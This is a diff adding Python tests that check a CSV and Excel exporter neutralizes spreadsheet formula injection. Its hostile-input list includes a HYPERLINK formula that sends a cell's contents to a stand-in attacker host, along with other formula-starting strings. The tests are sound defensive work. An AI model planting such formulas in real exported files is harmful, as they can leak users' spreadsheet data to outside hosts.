@@ -384,3 +384,110 @@ def test_excel_drops_control_characters_instead_of_failing():
     out.seek(0)
     rows = list(load_workbook(out, read_only=True).active.iter_rows(values_only=True))
     assert rows == [("NAME",), ("ab",)]
+
+
+# Formula neutralization (OWASP CSV injection) ------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tx",
+    "\rx",
+]
+TEXT_COLUMNS = [(Field("NAME"), "NAME"), (Field("KIND", "enum", values=("=x",)), "KIND")]
+NUMBER_COLUMNS = [(Field("QTY", "int"), "QTY"), (Field("AMOUNT", "decimal"), "AMOUNT")]
+
+
+def neutralized(text: str) -> str:
+    return "'" + text
+
+
+def csv_cells(data: bytes, fmt=CSV) -> list[list[str]]:
+    import csv as csv_module
+
+    text = data.decode("utf-8")
+    return list(csv_module.reader(io.StringIO(text, newline=""), delimiter=fmt.delimiter))
+
+
+def excel_rows(columns, rows, **options) -> tuple[list[list], list[list[str]], bytes]:
+    """(values, data types, the sheet's XML) of a workbook written by write_excel."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    stream = io.BytesIO()
+    write_excel(stream, columns, EXCEL, [rows], **options)
+    sheet_xml = zipfile.ZipFile(io.BytesIO(stream.getvalue())).read("xl/worksheets/sheet1.xml")
+    stream.seek(0)
+    sheet = load_workbook(stream).active
+    values = [[c.value for c in row] for row in sheet.iter_rows()]
+    types = [[c.data_type for c in row] for row in sheet.iter_rows()]
+    return values, types, sheet_xml
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_csv_text_that_starts_a_formula_gets_a_quote_in_front(text) -> None:
+    cells = csv_cells(csv_bytes(TEXT_COLUMNS, [[{"NAME": text, "KIND": "=x"}]]))
+    assert cells[1] == [neutralized(text), "'=x"]
+
+
+def test_csv_text_that_starts_no_formula_is_unchanged() -> None:
+    rows = [{"NAME": v} for v in ("plain", "a=b", "1-2", "'quoted", " =lead space", "")]
+    cells = csv_cells(csv_bytes(TEXT_COLUMNS[:1], [rows]))
+    assert [c[0] for c in cells[1:]] == ["plain", "a=b", "1-2", "'quoted", " =lead space", ""]
+
+
+def test_csv_numbers_dates_and_booleans_are_never_neutralized() -> None:
+    columns = NUMBER_COLUMNS + [(Field("ON", "bool"), "ON"), (Field("D", "date"), "D")]
+    data = csv_bytes(
+        columns, [[{"QTY": -5, "AMOUNT": Decimal("-1234.50"), "ON": False, "D": date(2024, 1, 2)}]]
+    )
+    assert data == b"QTY,AMOUNT,ON,D\r\n-5,-1234.50,No,2024-01-02\r\n"
+
+
+def test_csv_option_off_passes_values_through() -> None:
+    out = io.BytesIO()
+    write_csv(out, TEXT_COLUMNS[:1], CSV, [[{"NAME": v} for v in HOSTILE]], neutralize=False)
+    assert [c[0] for c in csv_cells(out.getvalue())[1:]] == HOSTILE
+
+
+def test_csv_without_a_qualifier_neutralizes_each_cell_a_spreadsheet_would_see() -> None:
+    # A spreadsheet ignores the backslash escapes: "a\;=1+1" is the cells "a\" and "=1+1".
+    fmt = replace(CSV, delimiter=";", text_qualifier="")
+    data = csv_bytes(TEXT_COLUMNS[:1], [[{"NAME": "a;=1+1"}, {"NAME": "b\n@x"}, {"NAME": "-c"}]], fmt)
+    assert data == b"NAME\r\na\\;'=1+1\r\nb\\\n'@x\r\n'-c\r\n"
+
+
+def test_csv_unicode_neutralizes_too() -> None:
+    data = csv_bytes(TEXT_COLUMNS[:1], [[{"NAME": "=1+1"}]], CSV_UNICODE)
+    assert data == b"\xff\xfe" + "NAME\r\n'=1+1\r\n".encode("utf-16-le")
+
+
+def test_excel_text_that_starts_a_formula_is_a_quoted_string_cell() -> None:
+    values, types, sheet_xml = excel_rows(TEXT_COLUMNS[:1], [{"NAME": v} for v in HOSTILE])
+    assert [v[0] for v in values[1:]] == [neutralized(v) for v in HOSTILE]
+    assert {t[0] for t in types} == {"s"}
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+
+
+def test_excel_numbers_are_never_neutralized() -> None:
+    values, _, _ = excel_rows(NUMBER_COLUMNS, [{"QTY": -5, "AMOUNT": Decimal("-1.50")}])
+    assert values[1] == ["-5", "-1.50"]
+
+
+def test_excel_option_off_passes_values_through_but_never_as_a_formula() -> None:
+    """openpyxl 3.1 makes any str starting with '=' a formula cell and '#N/A' an error cell
+    (openpyxl/cell/cell.py, Cell._bind_value); the writer keeps both text."""
+    rows = [{"NAME": v} for v in HOSTILE + ["#N/A", "#DIV/0!"]]
+    values, types, sheet_xml = excel_rows(TEXT_COLUMNS[:1], rows, neutralize=False)
+    assert [v[0] for v in values[1:]] == HOSTILE + ["#N/A", "#DIV/0!"]
+    assert {t[0] for t in types} == {"s"}
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+
+
+def test_excel_header_that_looks_like_a_formula_stays_text() -> None:
+    values, types, sheet_xml = excel_rows([(Field("NAME"), "=NAME")], [])
+    assert values == [["=NAME"]] and types == [["s"]]
+    assert b"<f>" not in sheet_xml
